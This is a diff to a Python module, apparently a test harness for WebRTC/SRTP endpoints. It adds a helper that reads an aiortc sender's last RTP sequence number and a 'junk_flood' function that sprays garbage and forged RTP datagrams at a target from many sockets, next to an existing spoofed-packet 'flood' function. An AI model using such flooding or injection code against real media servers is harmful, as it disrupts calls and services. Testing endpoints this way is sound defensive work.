@@ -57,3 +57,44 @@ def flood(src, sport, dst, dport, ssrc, rate, seconds, size=172, max_packets=200
     finally:
         raw.close()
     return sent
+
+
+def live_sequence(sender):
+    """The sequence number an aiortc RTCRtpSender used last (from its
+    retransmission history: the entry with the newest timestamp)."""
+    history = [p for p in sender._RTCRtpSender__rtp_history.values() if p is not None]
+    if not history:
+        return None
+    ref = history[0].timestamp
+
+    def age(packet):
+        return ((packet.timestamp - ref + (1 << 31)) & 0xFFFFFFFF) - (1 << 31)
+
+    newest = max(history, key=lambda p: (age(p), p.sequence_number))
+    return newest.sequence_number
+
+
+def junk_flood(dst, dport, rate, seconds, max_packets=100_000):
+    """Off-path junk, no spoofing: datagrams no demultiplexer accepts, and
+    SRTP-looking datagrams from 5-tuples no session owns, from ordinary
+    sockets on many source ports. Returns how many were sent."""
+    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
+    sent = 0
+    start = time.monotonic()
+    try:
+        while sent < max_packets and time.monotonic() - start < seconds:
+            due = min(int((time.monotonic() - start) * rate), max_packets)
+            while sent < due:
+                s = sockets[sent % len(sockets)]
+                if sent % 2:
+                    payload = bytes([0x42]) + os.urandom(99)  # no RFC 7983 range
+                else:
+                    payload = forged_rtp(random.randrange(1 << 32), 120)
+                s.sendto(payload, (dst, dport))
+                sent += 1
+            time.sleep(0.001)
+    finally:
+        for s in sockets:
+            s.close()
+    return sent
+
